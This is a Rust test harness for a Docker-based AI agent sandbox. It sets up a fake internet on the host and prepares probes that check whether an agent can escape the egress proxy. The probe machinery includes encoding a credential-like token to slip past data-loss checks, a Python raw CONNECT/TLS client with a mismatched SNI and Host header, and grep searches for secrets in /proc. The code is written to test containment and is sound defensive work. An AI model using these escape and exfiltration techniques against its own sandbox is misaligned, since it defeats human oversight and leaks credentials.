//! The sandbox-escape suite: real bottles on a real Docker engine, probed from the inside.
//!
//! A "fake internet" runs on the host: an HTTPS upstream for `api.fake.test` (test CA from rcgen,
//! rustls) that records every request it receives, and a plain TCP service that answers anyone. Both
//! listen on `0.0.0.0`, so every host address would reach them if the boundary leaked. One bottle is
//! launched with a single route to that upstream (real token held by the sidecar, DLP blocking),
//! and each probe runs through `bot-bottle exec` as the agent. Every probe must be blocked except the
//! positive control, which proves the one allowed way out works and carries the injected token.
//!
//! A probe is judged from what the agent saw *and* from what arrived on the host: a refusal that
//! still let a request reach the upstream is an escape. A probe whose command did not run at all is
//! a harness error, never a pass. Teardown runs even when probes fail (a guard stops the bottles on
//! panic), and the suite fails loudly when no Docker engine is reachable: it is the docker backend's
//! acceptance gate and must not skip.

use std::fmt::Write as _;
use std::io::{Read as _, Write as _};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::Output;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use rand::Rng as _;
use rcgen::{BasicConstraints, CertificateParams, IsCa, Issuer, KeyPair, SanType};
use tokio::io::{AsyncBufRead, AsyncBufReadExt as _, AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
use tokio_rustls::rustls;

/// The fake upstream's host name, mapped to the Docker bridge gateway by the bottle's `egress.hosts`.
const FAKE_HOST: &str = "api.fake.test";
/// The host variable holding the route's real token; only the `start` process gets it.
const TOKEN_VAR: &str = "FAKE_UPSTREAM_TOKEN";
const AGENT: &str = "prober";
const BOTTLE: &str = "fake-net";
/// The relay to the egress proxy inside every bottle.
const PROXY: &str = "http://127.0.0.1:9099";
/// The sidecar's control port, which must not answer inside a bottle.
const CONTROL_PORT: u16 = 9200;
/// Fallback when the engine does not report the default bridge's gateway.
const DEFAULT_GATEWAY: Ipv4Addr = Ipv4Addr::new(172, 17, 0, 1);
/// Generous bound on one `exec` (the whole-filesystem search is the slowest probe).
const EXEC_TIMEOUT: Duration = Duration::from_secs(90);
/// Bound on a launch; the first launch of a new binary also builds its sidecar image.
const START_TIMEOUT: Duration = Duration::from_secs(600);

/// A credential-shaped token (`ghp_` + 36 alphanumerics), fresh per run, so both the known-secret
/// and the token-pattern detectors know it.
fn fresh_token() -> String {
    let tail: String = rand::rng().sample_iter(rand::distr::Alphanumeric).take(36).map(char::from).collect();
    format!("ghp_{tail}")
}

// ---------------------------------------------------------------------------------------------
// Encodings of the token: what the DLP must refuse and what must never reach the upstream.

/// Standard base64 with padding.
fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let b = [chunk[0], chunk.get(1).copied().unwrap_or(0), chunk.get(2).copied().unwrap_or(0)];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(char::from(ALPHABET[((n >> (18 - 6 * i)) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// Lowercase hex.
fn hex(bytes: &[u8]) -> String {
    bytes.iter().fold(String::new(), |mut s, b| {
        let _ = write!(s, "{b:02x}");
        s
    })
}

/// Every byte percent-encoded, unreserved characters included (`%67%68%70…`).
fn percent_all(bytes: &[u8]) -> String {
    bytes.iter().fold(String::new(), |mut s, b| {
        let _ = write!(s, "%{b:02X}");
        s
    })
}

/// Percent- and `+`-decoding, lossy, for searching what the upstream received.
fn percent_decode(text: &str) -> String {
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'%'
            && let Some(v) = text.get(i + 1..i + 3).and_then(|h| u8::from_str_radix(h, 16).ok())
        {
            out.push(v);
            i += 3;
            continue;
        }
        out.push(if bytes[i] == b'+' { b' ' } else { bytes[i] });
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// The token in every form worth searching for: raw, base64 at each of the three alignments (the
/// stable middle of the encoding, so a prefix or padding cannot hide it), hex and percent-encoding
/// in both cases.
fn token_forms(token: &str) -> Vec<(&'static str, String)> {
    let mut forms = vec![("raw", token.to_owned())];
    for (shift, name) in [(0, "base64"), (1, "base64 (shifted 1)"), (2, "base64 (shifted 2)")] {
        let shifted = [&b"xx"[..shift], token.as_bytes()].concat();
        let encoded = base64(&shifted);
        let start = if shift == 0 { 0 } else { 4 };
        forms.push((name, encoded[start..shifted.len() / 3 * 4].to_owned()));
    }
    let lower = hex(token.as_bytes());
    forms.push(("hex", lower.clone()));
    forms.push(("HEX", lower.to_ascii_uppercase()));
    let percent = percent_all(token.as_bytes());
    forms.push(("percent", percent.clone()));
    forms.push(("percent (lowercase)", percent.to_ascii_lowercase()));
    forms
}

/// Which form of the token `text` contains, if any.
fn token_in(forms: &[(&'static str, String)], text: &str) -> Option<&'static str> {
    forms.iter().find(|(_, form)| text.contains(form.as_str())).map(|(name, _)| *name)
}

/// A shell single-quoted word.
fn sh_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

/// `grep` arguments matching any form of the token, each pattern bracketed (`[g]hp_…`) so the
/// search's own argv never contains the token and cannot find itself in `/proc/*/cmdline`.
fn grep_patterns(forms: &[(&'static str, String)]) -> String {
    forms
        .iter()
        .map(|(_, form)| {
            let mut chars = form.chars();
            let first = chars.next().unwrap_or('x');
            format!("-e {}", sh_quote(&format!("[{first}]{}", chars.as_str())))
        })
        .collect::<Vec<_>>()
        .join(" ")
}

// ---------------------------------------------------------------------------------------------
// The fake internet.

/// One request as the fake upstream received it.
#[derive(Debug, Clone)]
struct Seen {
    method: String,
    /// Path and query as sent.
    target: String,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
    /// Whether it came over TLS (a plaintext request to the TLS port is recorded too).
    tls: bool,
    /// The TLS server name the client sent.
    sni: Option<String>,
}

impl Seen {
    /// The first value of header `name` (case-insensitive).
    fn header(&self, name: &str) -> Option<&str> {
        self.headers.iter().find(|(n, _)| n.eq_ignore_ascii_case(name)).map(|(_, v)| v.as_str())
    }

    /// Where the token shows in this request outside the credential the proxy injected.
    fn token_outside_auth(&self, forms: &[(&'static str, String)], injected: &str) -> Option<String> {
        let target = format!("{}\n{}", self.target, percent_decode(&self.target));
        if let Some(form) = token_in(forms, &target) {
            return Some(format!("{form} in the path or query"));
        }
        for (name, value) in &self.headers {
            if name.eq_ignore_ascii_case("authorization") && value == injected {
                continue;
            }
            if let Some(form) = token_in(forms, value) {
                return Some(format!("{form} in header `{name}`"));
            }
        }
        let body = String::from_utf8_lossy(&self.body);
        let body = format!("{body}\n{}", percent_decode(&body));
        token_in(forms, &body).map(|form| format!("{form} in the body"))
    }
}

/// The host side of the test: an HTTPS upstream and a TCP service on `0.0.0.0`, each recording
/// what reached it.
struct FakeInternet {
    https_port: u16,
    tcp_port: u16,
    ca_pem: PathBuf,
    seen: Arc<Mutex<Vec<Seen>>>,
    tcp_peers: Arc<Mutex<Vec<SocketAddr>>>,
    _runtime: tokio::runtime::Runtime,
}

impl FakeInternet {
    fn start(dir: &Path, gateway: Ipv4Addr, token: &str) -> Self {
        let ca_key = KeyPair::generate().expect("CA key");
        let mut ca_params = CertificateParams::new(Vec::<String>::new()).expect("CA params");
        ca_params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
        ca_params.distinguished_name.push(rcgen::DnType::CommonName, "escape suite fake internet CA");
        let ca_cert = ca_params.self_signed(&ca_key).expect("CA certificate");
        let ca_pem = dir.join("fake-internet-ca.pem");
        std::fs::write(&ca_pem, ca_cert.pem()).expect("write CA");
        let issuer = Issuer::new(ca_params, ca_key);

        let leaf_key = KeyPair::generate().expect("leaf key");
        let mut leaf_params = CertificateParams::new(vec![FAKE_HOST.to_owned()]).expect("leaf params");
        leaf_params.subject_alt_names.push(SanType::IpAddress(IpAddr::V4(gateway)));
        let leaf = leaf_params.signed_by(&leaf_key, &issuer).expect("leaf certificate");
        let key_der = rustls::pki_types::PrivateKeyDer::Pkcs8(leaf_key.serialize_der().into());
        let mut tls = rustls::ServerConfig::builder_with_provider(bottle_ca::crypto_provider())
            .with_safe_default_protocol_versions()
            .expect("protocol versions")
            .with_no_client_auth()
            .with_single_cert(vec![leaf.der().clone()], key_der)
            .expect("server config");
        tls.alpn_protocols = vec![b"http/1.1".to_vec()];
        let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(tls));

        let runtime =
            tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build().expect("tokio runtime");
        let listener = runtime
            .block_on(tokio::net::TcpListener::bind((Ipv4Addr::UNSPECIFIED, 0)))
            .expect("bind the fake upstream");
        let https_port = listener.local_addr().expect("upstream address").port();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let injected: Arc<str> = format!("Bearer {token}").into();
        let log = seen.clone();
        runtime.spawn(async move {
            loop {
                let Ok((tcp, _)) = listener.accept().await else { return };
                let (acceptor, log, injected) = (acceptor.clone(), log.clone(), injected.clone());
                tokio::spawn(async move {
                    // A plaintext request to the TLS port would carry whatever the proxy sent in
                    // the clear, so it is recorded, not dropped.
                    let mut first = [0u8; 1];
                    match tcp.peek(&mut first).await {
                        Ok(1) if first[0] == 0x16 => {
                            let Ok(Ok(stream)) =
                                tokio::time::timeout(Duration::from_secs(10), acceptor.accept(tcp)).await
                            else {
                                return;
                            };
                            let sni = stream.get_ref().1.server_name().map(str::to_owned);
                            serve_http(stream, true, sni, log, injected).await;
                        }
                        Ok(1) => serve_http(tcp, false, None, log, injected).await,
                        _ => {}
                    }
                });
            }
        });

        let tcp = TcpListener::bind((Ipv4Addr::UNSPECIFIED, 0)).expect("bind the fake TCP service");
        let tcp_port = tcp.local_addr().expect("TCP service address").port();
        let tcp_peers = Arc::new(Mutex::new(Vec::new()));
        let peers = tcp_peers.clone();
        std::thread::spawn(move || {
            for stream in tcp.incoming() {
                let Ok(mut stream) = stream else { continue };
                if let Ok(peer) = stream.peer_addr() {
                    peers.lock().expect("peers").push(peer);
                }
                let _ = stream.write_all(b"fake host service: you reached the host\n");
            }
        });

        Self { https_port, tcp_port, ca_pem, seen, tcp_peers, _runtime: runtime }
    }

    /// How many requests and TCP connections arrived so far (a probe compares before and after).
    fn mark(&self) -> (usize, usize) {
        (self.seen.lock().expect("seen").len(), self.tcp_peers.lock().expect("peers").len())
    }

    fn since(&self, mark: (usize, usize)) -> (Vec<Seen>, Vec<SocketAddr>) {
        (self.seen.lock().expect("seen")[mark.0..].to_vec(), self.tcp_peers.lock().expect("peers")[mark.1..].to_vec())
    }
}

/// Serves HTTP/1.1 on one connection: records each request and answers 200 with a JSON body that
/// says whether `Authorization` carried the real token (never the token itself).
async fn serve_http<S>(stream: S, tls: bool, sni: Option<String>, log: Arc<Mutex<Vec<Seen>>>, injected: Arc<str>)
where
    S: AsyncRead + AsyncWrite + Unpin,
{
    let mut stream = tokio::io::BufReader::new(stream);
    loop {
        let read = tokio::time::timeout(Duration::from_secs(30), read_request(&mut stream, tls, sni.clone())).await;
        let Ok(Some(request)) = read else { return };
        let authorized = request.header("authorization") == Some(&*injected);
        let close = request.header("connection").is_some_and(|v| v.eq_ignore_ascii_case("close"));
        log.lock().expect("seen").push(request);
        let body = format!("{{\"upstream\":\"{FAKE_HOST}\",\"authorized\":{authorized}}}\n");
        let response = format!(
            "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\n{}\r\n{body}",
            body.len(),
            if close { "connection: close\r\n" } else { "" }
        );
        let inner = stream.get_mut();
        if inner.write_all(response.as_bytes()).await.is_err() || inner.flush().await.is_err() || close {
            let _ = inner.shutdown().await;
            return;
        }
    }
}

/// Reads one request (head, then a `content-length` or chunked body); `None` at EOF or on garbage.
async fn read_request<R>(r: &mut R, tls: bool, sni: Option<String>) -> Option<Seen>
where
    R: AsyncBufRead + Unpin,
{
    const MAX: usize = 16 << 20;
    let mut line = Vec::new();
    if r.read_until(b'\n', &mut line).await.ok()? == 0 {
        return None;
    }
    let request_line = String::from_utf8_lossy(&line).trim_end().to_owned();
    let mut parts = request_line.split(' ');
    let (method, target) = (parts.next()?.to_owned(), parts.next()?.to_owned());
    let mut headers = Vec::new();
    loop {
        line.clear();
        if r.read_until(b'\n', &mut line).await.ok()? == 0 {
            return None;
        }
        let text = String::from_utf8_lossy(&line).trim_end().to_owned();
        if text.is_empty() {
            break;
        }
        let (name, value) = text.split_once(':')?;
        headers.push((name.trim().to_owned(), value.trim().to_owned()));
        if headers.len() > 200 {
            return None;
        }
    }
    let mut seen = Seen { method, target, headers, body: Vec::new(), tls, sni };
    if seen.header("transfer-encoding").is_some_and(|v| v.to_ascii_lowercase().contains("chunked")) {
        loop {
            line.clear();
            r.read_until(b'\n', &mut line).await.ok()?;
            let size_text = String::from_utf8_lossy(&line);
            let size = usize::from_str_radix(size_text.trim().split(';').next()?.trim(), 16).ok()?;
            if size == 0 {
                // Trailers, up to the empty line.
                loop {
                    line.clear();
                    if r.read_until(b'\n', &mut line).await.ok()? == 0 || line.trim_ascii().is_empty() {
                        break;
                    }
                }
                break;
            }
            if seen.body.len() + size > MAX {
                return None;
            }
            let start = seen.body.len();
            seen.body.resize(start + size, 0);
            r.read_exact(&mut seen.body[start..]).await.ok()?;
            let mut crlf = [0u8; 2];
            r.read_exact(&mut crlf).await.ok()?;
        }
    } else if let Some(length) = seen.header("content-length").and_then(|v| v.parse::<usize>().ok()) {
        if length > MAX {
            return None;
        }
        seen.body.resize(length, 0);
        r.read_exact(&mut seen.body).await.ok()?;
    }
    Some(seen)
}

// ---------------------------------------------------------------------------------------------
// Docker and the CLI.

/// Runs the `docker` CLI against the same engine as the bottles.
fn docker(args: &[&str]) -> Output {
    std::process::Command::new("docker").args(args).output().expect("the `docker` CLI runs")
}

/// `docker ARGS`'s stdout and stderr as one text.
fn docker_text(args: &[&str]) -> String {
    let out = docker(args);
    format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr))
}

/// Panics with a clear message unless a Docker engine answers: this suite must never skip.
fn require_docker() {
    let out = std::process::Command::new("docker").args(["version", "--format", "{{.Server.Version}}"]).output();
    match out {
        Ok(out) if out.status.success() => {}
        Ok(out) => panic!(
            "the sandbox-escape suite needs a running Docker engine, and `docker version` failed:\n{}\n\
             hint: start one with `scripts/setup --no-build`",
            String::from_utf8_lossy(&out.stderr).trim()
        ),
        Err(e) => panic!(
            "the sandbox-escape suite needs the `docker` CLI and a running engine: {e}\n\
             hint: install and start both with `scripts/setup --no-build`"
        ),
    }
}

/// The default bridge's gateway: the host as containers see it.
pub(crate) fn bridge_gateway() -> Ipv4Addr {
    let out = docker(&["network", "inspect", "bridge", "--format", "{{range .IPAM.Config}}{{.Gateway}}{{end}}"]);
    String::from_utf8_lossy(&out.stdout).trim().parse().unwrap_or(DEFAULT_GATEWAY)
}

/// Every IPv4 address of the host (`ip -4 -o addr`), plus the gateway. The bridges of bottles
/// (`br-*`) are left out: they come and go with other bottles on the engine.
fn host_addresses(gateway: Ipv4Addr) -> Vec<Ipv4Addr> {
    let out = std::process::Command::new("ip").args(["-4", "-o", "addr", "show"]).output();
    let mut addrs: Vec<Ipv4Addr> = out
        .map(|o| String::from_utf8_lossy(&o.stdout).into_owned())
        .unwrap_or_default()
        .lines()
        .filter_map(|l| {
            let fields: Vec<&str> = l.split_whitespace().collect();
            if fields.get(1)?.starts_with("br-") {
                return None;
            }
            fields.get(3)?.split('/').next()?.parse().ok()
        })
        .collect();
    if !addrs.contains(&gateway) {
        addrs.push(gateway);
    }
    addrs
}

/// Runs the built `bot-bottle` against one home with a clean environment.
struct Cli {
    home: PathBuf,
    user_home: PathBuf,
    token: String,
}

impl Cli {
    /// `bot-bottle --home HOME` with only PATH, a temporary HOME, `NO_COLOR` and the engine's
    /// variables in its environment.
    fn cmd(&self) -> assert_cmd::Command {
        let mut cmd = assert_cmd::Command::cargo_bin("bot-bottle").expect("binary built");
        cmd.env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOME", &self.user_home)
            .env("NO_COLOR", "1");
        // The engine and the image build's rootfs cache of this machine (the cache would otherwise
        // follow the temporary HOME and start empty).
        for var in ["DOCKER_HOST", "BOT_BOTTLE_DEBIAN_MIRROR"] {
            if let Some(v) = std::env::var_os(var) {
                cmd.env(var, v);
            }
        }
        let cache = std::env::var_os("XDG_CACHE_HOME")
            .map(PathBuf::from)
            .or_else(|| std::env::var_os("HOME").map(|h| PathBuf::from(h).join(".cache")));
        if let Some(cache) = cache {
            cmd.env("XDG_CACHE_HOME", cache);
        }
        cmd.arg("--home").arg(&self.home);
        cmd
    }

    /// `start AGENT --yes --detach --label LABEL`, the only command that gets the token.
    fn start(&self, label: &str) -> Output {
        self.cmd()
            .env(TOKEN_VAR, &self.token)
            .args(["start", AGENT, "--yes", "--detach", "--label", label])
            .timeout(START_TIMEOUT)
            .output()
            .expect("`start` runs")
    }

    /// `stop SLUG`.
    fn stop(&self, slug: &str) -> Output {
        self.cmd().args(["stop", slug]).timeout(Duration::from_secs(180)).output().expect("`stop` runs")
    }

    /// `exec SLUG -- bash -c SCRIPT` with `stdin`; the script's own exit code and merged output are
    /// framed by markers so a failure of `exec` itself is never mistaken for a blocked probe.
    fn exec(&self, slug: &str, script: &str, stdin: &str) -> Result<(i32, String), String> {
        let wrapped = format!("printf '@@ran\\n'\n{{ {script}\n}} 2>&1\nprintf '\\n@@exit=%s\\n' \"$?\"\n");
        let out = self
            .cmd()
            .args(["exec", slug, "--", "bash", "-c", &wrapped])
            .write_stdin(stdin)
            .timeout(EXEC_TIMEOUT)
            .output()
            .map_err(|e| format!("`exec` did not run: {e}"))?;
        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
        let code = stdout.rsplit_once("@@exit=").and_then(|(_, rest)| rest.trim().parse::<i32>().ok());
        match (stdout.find("@@ran\n"), code) {
            (Some(start), Some(code)) => {
                let body = &stdout[start + 6..stdout.rfind("\n@@exit=").unwrap_or(stdout.len())];
                Ok((code, body.to_owned()))
            }
            _ => Err(format!(
                "`exec` did not run the probe (exit {:?}): {}{}",
                out.status.code(),
                stdout.trim(),
                String::from_utf8_lossy(&out.stderr).trim()
            )),
        }
    }
}

/// Stops every bottle it holds when dropped, so a panic mid-suite still tears down.
struct Bottles<'a> {
    cli: &'a Cli,
    slugs: Vec<String>,
}

impl Drop for Bottles<'_> {
    fn drop(&mut self) {
        for slug in std::mem::take(&mut self.slugs) {
            let _ = self.cli.stop(&slug);
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Probes and their verdicts.

/// What one probe did: its exit code and output inside the bottle, and what reached the host.
struct Ran {
    code: i32,
    out: String,
    upstream: Vec<Seen>,
    tcp: Vec<SocketAddr>,
}

impl Ran {
    /// The value of a `@@name=` marker (curl's `-w`, the python helper).
    fn marker(&self, name: &str) -> Option<u16> {
        let key = format!("@@{name}=");
        self.out.split(&key).nth(1)?.get(..3)?.parse().ok().filter(|&c| c != 0)
    }

    /// The proxy's rule id, from its `x-bot-bottle-rule` header or its body.
    fn rule(&self) -> Option<String> {
        for line in self.out.lines() {
            let lower = line.to_ascii_lowercase();
            if let Some(i) = lower.find("x-bot-bottle-rule:") {
                return Some(line[i + "x-bot-bottle-rule:".len()..].trim().to_owned());
            }
        }
        let (_, rest) = self.out.split_once("(rule `")?;
        Some(rest.split('`').next()?.to_owned())
    }

    /// The last meaningful line of output, for the table.
    fn last_line(&self) -> String {
        let line = self
            .out
            .lines()
            .map(str::trim)
            .rfind(|l| !l.is_empty() && !l.starts_with("@@") && !l.starts_with('*'))
            .unwrap_or("");
        let mut line: String = line.chars().take(90).collect();
        if line.is_empty() {
            line = format!("exit {}", self.code);
        }
        line
    }

    /// Something arrived on the host: an escape whatever the agent saw.
    fn reached_host(&self) -> Option<String> {
        if let Some(seen) = self.upstream.first() {
            return Some(format!(
                "the upstream received {} {} ({} request(s))",
                seen.method,
                seen.target.chars().take(40).collect::<String>(),
                self.upstream.len()
            ));
        }
        self.tcp.first().map(|peer| format!("the host TCP service was reached from {peer}"))
    }
}

/// The judgement of one probe.
struct Verdict {
    /// The way out was open (or, for the control, worked).
    passed: bool,
    detail: String,
    /// A contract mismatch that is not an escape (e.g. a refusal without its explanation).
    problem: Option<String>,
}

impl Verdict {
    fn blocked(detail: impl Into<String>) -> Self {
        Self { passed: false, detail: detail.into(), problem: None }
    }

    fn passed(detail: impl Into<String>) -> Self {
        Self { passed: true, detail: detail.into(), problem: None }
    }

    fn problem(mut self, problem: impl Into<String>) -> Self {
        self.problem = Some(problem.into());
        self
    }
}

/// The proxy must refuse with a 4xx (and nothing may reach the host). With `tls_drop`, a tunnel the
/// proxy closes during the TLS handshake also counts as a refusal.
fn proxy_refusal(ran: &Ran, tls_drop: bool) -> Verdict {
    if let Some(what) = ran.reached_host() {
        return Verdict::passed(what);
    }
    let status = ran.marker("connect").filter(|&c| c != 200).or_else(|| ran.marker("status"));
    match status {
        Some(code) if (200..400).contains(&code) => Verdict::passed(format!("answered {code}: {}", ran.last_line())),
        Some(code) if (400..500).contains(&code) => {
            Verdict::blocked(format!("{code} {}", ran.rule().unwrap_or_else(|| "(no rule named)".into())))
        }
        _ if tls_drop && ran.out.contains("tls failed") => {
            Verdict::blocked(format!("proxy closed the tunnel: {}", ran.last_line()))
        }
        _ => Verdict::blocked(ran.last_line()).problem("expected a 4xx refusal from the proxy"),
    }
}

/// A direct connection must fail and reach nothing. Off loopback, "refused" also means a network
/// path exists (someone answered with a reset), which is an escape.
fn closed(ran: &Ran, loopback: bool) -> Verdict {
    if let Some(what) = ran.reached_host() {
        return Verdict::passed(what);
    }
    if ran.code == 0 {
        return Verdict::passed(format!("succeeded: {}", ran.last_line()));
    }
    let lower = ran.out.to_ascii_lowercase();
    if !loopback && (lower.contains("refused") || lower.contains("succeeded")) {
        return Verdict::passed(format!("a network path exists: {}", ran.last_line()));
    }
    Verdict::blocked(ran.last_line())
}

/// A search for the token must list no file.
fn nothing_found(ran: &Ran) -> Verdict {
    let files: Vec<&str> = ran.out.lines().map(str::trim).filter(|l| !l.is_empty()).collect();
    if !files.is_empty() {
        Verdict::passed(format!("found in {}", files.join(", ")))
    } else if ran.code == 124 {
        Verdict::blocked("no match so far").problem("the search timed out")
    } else {
        Verdict::blocked(format!("no match (grep exit {})", ran.code))
    }
}

/// A positive control of a search: it must list the place the token was planted.
fn found_planted(ran: &Ran, place: &str) -> Verdict {
    if ran.out.lines().any(|l| l.contains(place)) {
        Verdict::passed(format!("found in {}", ran.last_line()))
    } else {
        Verdict::blocked(format!("not found (exit {}): {}", ran.code, ran.last_line()))
    }
}

/// What a row must show.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Expect {
    /// A positive control: the way out must work.
    Pass,
    /// A way out that must be closed.
    Block,
    /// A fact about the CLI or the engine that must hold (`passed` = it held).
    Hold,
}

/// One row of the table.
struct Row {
    name: String,
    expect: Expect,
    /// `None` when the probe could not run (a harness error, which fails the suite).
    verdict: Option<Verdict>,
    error: Option<String>,
    /// How long the probe ran (zero for checks made on the host).
    took: Duration,
}

impl Row {
    fn ok(&self) -> bool {
        let want = self.expect != Expect::Block;
        self.error.is_none() && self.verdict.as_ref().is_some_and(|v| v.passed == want && v.problem.is_none())
    }
}

/// The probe runner: one bottle's `exec`, the fake internet to observe, and the table.
struct Suite<'a> {
    cli: &'a Cli,
    net: &'a FakeInternet,
    rows: Vec<Row>,
    started: Instant,
}

impl Suite<'_> {
    /// Runs `script` in `slug` as the agent and records `judge`'s verdict under `name`.
    fn probe(&mut self, name: &str, slug: &str, script: &str, judge: impl FnOnce(&Ran) -> Verdict) {
        self.probe_with(name, Expect::Block, slug, script, "", judge);
    }

    fn probe_with(
        &mut self,
        name: &str,
        expect: Expect,
        slug: &str,
        script: &str,
        stdin: &str,
        judge: impl FnOnce(&Ran) -> Verdict,
    ) {
        let mark = self.net.mark();
        let started = Instant::now();
        let result = self.cli.exec(slug, script, stdin);
        let took = started.elapsed();
        let row = match result {
            Ok((code, out)) => {
                let (upstream, tcp) = self.net.since(mark);
                let ran = Ran { code, out, upstream, tcp };
                Row { name: name.to_owned(), expect, verdict: Some(judge(&ran)), error: None, took }
            }
            Err(error) => Row { name: name.to_owned(), expect, verdict: None, error: Some(error), took },
        };
        self.rows.push(row);
    }

    /// Records a check made on the host (no exec): `found` is where the forbidden thing showed.
    fn host_check(&mut self, name: &str, found: Option<String>, clean: &str) {
        let verdict = match found {
            Some(found) => Verdict::passed(found),
            None => Verdict::blocked(clean),
        };
        self.rows.push(Row {
            name: name.to_owned(),
            expect: Expect::Block,
            verdict: Some(verdict),
            error: None,
            took: Duration::ZERO,
        });
    }

    /// Records a fact that must hold: `Err` says how it did not.
    fn check(&mut self, name: &str, result: Result<String, String>) {
        let verdict = match result {
            Ok(detail) => Verdict::passed(detail),
            Err(problem) => Verdict::passed("").problem(problem),
        };
        self.rows.push(Row {
            name: name.to_owned(),
            expect: Expect::Hold,
            verdict: Some(verdict),
            error: None,
            took: Duration::ZERO,
        });
    }

    fn table(&self) -> String {
        let width = self.rows.iter().map(|r| r.name.chars().count()).max().unwrap_or(10);
        let mut out = format!(
            "sandbox-escape probes ({:.1?}):\n  {:<width$}  {:<8} {:<8} {:>5}  detail\n",
            self.started.elapsed(),
            "probe",
            "expected",
            "result",
            "secs"
        );
        for row in &self.rows {
            let result = match (&row.error, &row.verdict, row.expect) {
                (Some(_), _, _) | (None, None, _) => "ERROR",
                (None, Some(v), Expect::Hold) => {
                    if v.problem.is_none() {
                        "ok"
                    } else {
                        "FAILED"
                    }
                }
                (None, Some(v), _) if v.passed => "PASSED",
                (None, Some(_), _) => "blocked",
            };
            let detail = match (&row.error, &row.verdict) {
                (Some(e), _) => e.clone(),
                (None, Some(v)) => match &v.problem {
                    Some(p) => format!("{} [problem: {p}]", v.detail),
                    None => v.detail.clone(),
                },
                (None, None) => String::new(),
            };
            let _ = writeln!(
                out,
                "{} {:<width$}  {:<8} {:<8} {:>5}  {}",
                if row.ok() { " " } else { "!" },
                row.name,
                match row.expect {
                    Expect::Pass => "pass",
                    Expect::Block => "block",
                    Expect::Hold => "hold",
                },
                result,
                if row.took.is_zero() { "-".to_owned() } else { format!("{:.1}", row.took.as_secs_f64()) },
                detail.replace('\n', " ")
            );
        }
        out
    }

    fn failures(&self) -> Vec<String> {
        self.rows
            .iter()
            .filter(|r| !r.ok())
            .map(|r| match (&r.error, &r.verdict) {
                (Some(e), _) => format!("{}: harness error: {e}", r.name),
                (None, Some(v)) if r.expect == Expect::Pass && !v.passed => {
                    format!("{}: the positive control failed: {}", r.name, v.detail)
                }
                (None, Some(v)) if r.expect == Expect::Block && v.passed => {
                    format!("{}: ESCAPED: {}", r.name, v.detail)
                }
                (None, Some(v)) => format!("{}: {} ({})", r.name, v.problem.as_deref().unwrap_or("?"), v.detail),
                (None, None) => format!("{}: no verdict", r.name),
            })
            .collect()
    }
}

/// `curl` through the bottle's proxy, verbose (so the proxy's rule header shows) and with the
/// status of the request and of any CONNECT printed as markers.
fn curl_proxy(args: &str) -> String {
    format!(
        "curl -sS -v -m 8 --noproxy '' -x {PROXY} -o - -w '\\n@@status=%{{http_code}} @@connect=%{{http_connect}}\\n' {args}"
    )
}

/// A raw client for the proxy: `CONNECT target`, then TLS with server name `sni` (certificate not
/// checked, so only the proxy decides), then `GET path` with header `Host: host`. Prints the
/// proxy's whole refusal (head and body) when the CONNECT is refused.
const RAW_TUNNEL: &str = r#"
import socket, ssl, sys
target, sni, host, path = sys.argv[1:5]
s = socket.create_connection(("127.0.0.1", 9099), timeout=8)
s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
head = b""
while b"\r\n\r\n" not in head:
    chunk = s.recv(4096)
    if not chunk:
        break
    head += chunk
words = head.split(b"\r\n", 1)[0].decode(errors="replace").split(" ")
code = words[1] if len(words) > 1 else "000"
if code != "200":
    try:
        while True:
            chunk = s.recv(4096)
            if not chunk:
                break
            head += chunk
    except OSError:
        pass
    print(head.decode(errors="replace"))
    print("@@connect=" + code)
    sys.exit(3)
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
try:
    t = ctx.wrap_socket(s, server_hostname=sni)
except Exception as e:
    print("tls failed: %s" % e)
    sys.exit(4)
t.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (path, host)).encode())
data = b""
try:
    while True:
        chunk = t.recv(4096)
        if not chunk:
            break
        data += chunk
except Exception as e:
    print("read failed: %s" % e)
print(data.decode(errors="replace"))
words = data.split(b"\r\n", 1)[0].decode(errors="replace").split(" ")
print("@@status=" + (words[1] if len(words) > 1 else "000"))
sys.exit(0 if len(words) > 1 and words[1] == "200" else 5)
"#;

/// The shell command running [`RAW_TUNNEL`] with its four arguments.
fn raw_tunnel(target: &str, sni: &str, host: &str, path: &str) -> String {
    format!(
        "python3 -c {} {} {} {} {}",
        sh_quote(RAW_TUNNEL),
        sh_quote(target),
        sh_quote(sni),
        sh_quote(host),
        sh_quote(path)
    )
}

/// A refusal the agent can act on: what was blocked, why, and how to ask.
fn explained(ran: &Ran, verdict: Verdict) -> Verdict {
    let missing: Vec<&str> =
        ["bot-bottle egress: blocked", "reason:", "hint:"].into_iter().filter(|m| !ran.out.contains(m)).collect();
    if verdict.passed || missing.is_empty() {
        verdict
    } else {
        verdict.problem(format!("the refusal's body lacks {missing:?}"))
    }
}

/// The container's IP addresses on its networks.
